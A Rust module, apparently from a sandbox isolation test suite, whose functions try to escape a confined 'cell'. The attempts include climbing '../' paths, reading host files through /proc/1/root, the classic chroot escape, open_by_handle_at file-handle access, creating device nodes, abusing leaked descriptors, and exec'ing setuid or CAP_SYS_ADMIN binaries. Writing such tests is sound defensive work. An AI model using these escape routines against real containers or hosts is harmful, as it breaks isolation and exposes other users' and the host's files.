//! Attempts on files: those of the host and of other cells, device nodes, and programs that give what we do not have.

use std::fs::{self, File};
use std::io::{self, Read};
use std::os::fd::{AsRawFd, BorrowedFd, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::process::Command;

use rustix::fs::{CWD, FileType, Mode, OFlags};

use crate::aims::Aims;
use crate::call::{at, call, negative, of};

/// The program of the cell, by its name in the root, which is the working directory.
pub const PROGRAM: &str = "berth-attacker";
/// A copy of it that is root's and setuid, and one that has CAP_SYS_ADMIN.
pub const SETUID: &str = "setuid-root";
pub const WITH_CAPABILITY: &str = "with-capability";

const CAP_SYS_ADMIN: u32 = 21;

/// More than a program here could have.
const MOST_DESCRIPTORS: i32 = 4096;

/// Parents to climb: more than any path here has.
const HEIGHT: usize = 32;

pub fn read_host_file(aims: &Aims) -> io::Result<()> {
    read(aims.text("host-file")?)
}

pub fn climb(aims: &Aims) -> io::Result<()> {
    std::env::set_current_dir("/")?;
    read(&format!("{}{}", "../".repeat(HEIGHT), aims.text("host-file")?))
}

pub fn read_secret(aims: &Aims) -> io::Result<()> {
    read(aims.text("secret")?)
}

pub fn read_neighbour(aims: &Aims) -> io::Result<()> {
    read(aims.text("neighbour")?)
}

pub fn read_stranger(aims: &Aims) -> io::Result<()> {
    read(aims.text("stranger")?)
}

pub fn proc_root(aims: &Aims) -> io::Result<()> {
    read(&format!("/proc/1/root{}", aims.text("host-file")?))
}

pub fn leaked_directory(aims: &Aims) -> io::Result<()> {
    let path = aims.text("host-file")?.trim_start_matches('/');
    let directory = leaked(aims.number("directory-fd")?)?;
    take(rustix::fs::openat(directory, path, OFlags::RDONLY, Mode::empty())?)
}

/// What this program has opened itself is closed by the exec.
pub fn open_descriptors(_: &Aims) -> io::Result<()> {
    Err(Command::new(format!("./{PROGRAM}")).arg("am-leaking").exec())
}

/// Whether this process was left a descriptor, as the program that [`open_descriptors`] becomes.
pub fn am_leaking() -> io::Result<()> {
    match (3..MOST_DESCRIPTORS).find(|number| leaked(*number).is_ok()) {
        Some(_) => Ok(()),
        None => Err(io::Error::from_raw_os_error(libc::EBADF)),
    }
}

/// The way out of a chroot: a root below the working directory is none for it.
pub fn chroot_escape(aims: &Aims) -> io::Result<()> {
    let before = rustix::fs::open(".", OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty())?;
    match fs::create_dir("escape") {
        Err(error) if error.kind() != io::ErrorKind::AlreadyExists => return Err(error),
        _ => {}
    }
    rustix::process::chroot("escape")?;
    rustix::process::fchdir(before)?;
    for _ in 0..HEIGHT {
        rustix::process::chdir("..")?;
    }
    rustix::process::chroot(".")?;
    read_host_file(aims)
}

/// `handle` is what [`handle`] printed of a file on the file system that the root of the cell is on.
pub fn open_by_handle(aims: &Aims) -> io::Result<()> {
    let mut handle: Vec<u8> = Vec::new();
    for digits in aims.text("handle")?.as_bytes().chunks(2) {
        let byte = std::str::from_utf8(digits).ok().and_then(|digits| u8::from_str_radix(digits, 16).ok());
        handle.push(byte.ok_or(io::ErrorKind::InvalidInput)?);
    }
    let mount = File::open(".")?;
    let arguments = [mount.as_raw_fd() as usize, of(handle.as_mut_slice()), libc::O_RDONLY as usize];
    let fd = call(libc::SYS_open_by_handle_at, &arguments)?;
    take(rustix::io::fcntl_dupfd_cloexec(leaked(fd as i32)?, 0)?)
}

/// The handle of a file in hexadecimal digits: struct file_handle, which begins with the room that follows its 8 bytes.
pub fn handle(path: &str) -> io::Result<String> {
    let (path, mut mount) = (format!("{path}\0"), 0_i32);
    let mut handle = [0_u8; 8 + libc::MAX_HANDLE_SZ as usize];
    handle[..4].copy_from_slice(&libc::MAX_HANDLE_SZ.to_ne_bytes());
    let arguments = [negative(libc::AT_FDCWD), at(path.as_str()), of(&mut handle), of(&mut mount), 0];
    call(libc::SYS_name_to_handle_at, &arguments)?;
    Ok(handle.iter().map(|byte| format!("{byte:02x}")).collect())
}

/// /dev/null will do: for the kernel, one device is like another.
pub fn make_device(_: &Aims) -> io::Result<()> {
    let device = rustix::fs::makedev(1, 3);
    rustix::fs::mknodat(CWD, "device", FileType::CharacterDevice, Mode::RUSR | Mode::WUSR, device)?;
    File::open("device").map(drop)
}

pub fn open_disk(aims: &Aims) -> io::Result<()> {
    File::open(aims.text("device")?).map(drop)
}

pub fn chmod_program(_: &Aims) -> io::Result<()> {
    fs::set_permissions(PROGRAM, fs::Permissions::from_mode(0o777))
}

pub fn write_program(_: &Aims) -> io::Result<()> {
    match File::options().write(true).open(PROGRAM) {
        // It runs: that is only a matter of time.
        Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => Ok(()),
        opened => opened.map(drop),
    }
}

pub fn setuid_program(_: &Aims) -> io::Result<()> {
    Err(Command::new(format!("./{SETUID}")).arg("am-root").exec())
}

pub fn capability_program(_: &Aims) -> io::Result<()> {
    Err(Command::new(format!("./{WITH_CAPABILITY}")).arg("am-capable").exec())
}

/// Whether this process is root's, as the program that [`setuid_program`] becomes.
pub fn am_root() -> io::Result<()> {
    match rustix::process::geteuid().is_root() {
        true => Ok(()),
        false => Err(io::Error::from_raw_os_error(libc::EPERM)),
    }
}

/// Whether this process has CAP_SYS_ADMIN, as the program that [`capability_program`] becomes.
pub fn am_capable() -> io::Result<()> {
    let sets = rustix::thread::capabilities(None)?;
    match sets.effective.bits() & 1 << CAP_SYS_ADMIN {
        0 => Err(io::Error::from_raw_os_error(libc::EPERM)),
        _ => Ok(()),
    }
}

fn read(path: &str) -> io::Result<()> {
    take(File::open(path)?.into())
}

/// Takes what is in the file, for the attempt is worth nothing without.
fn take(file: OwnedFd) -> io::Result<()> {
    File::from(file).read_exact(&mut [0])
}

/// A descriptor that the caller is said to have left open.
pub fn leaked(number: i32) -> io::Result<BorrowedFd<'static>> {
    call(libc::SYS_fcntl, &[number as usize, libc::F_GETFD as usize])?;
    // SAFETY: the descriptor is open, as the call above found, and nobody in this process knows it to close it.
    Ok(unsafe { BorrowedFd::borrow_raw(number) })
}
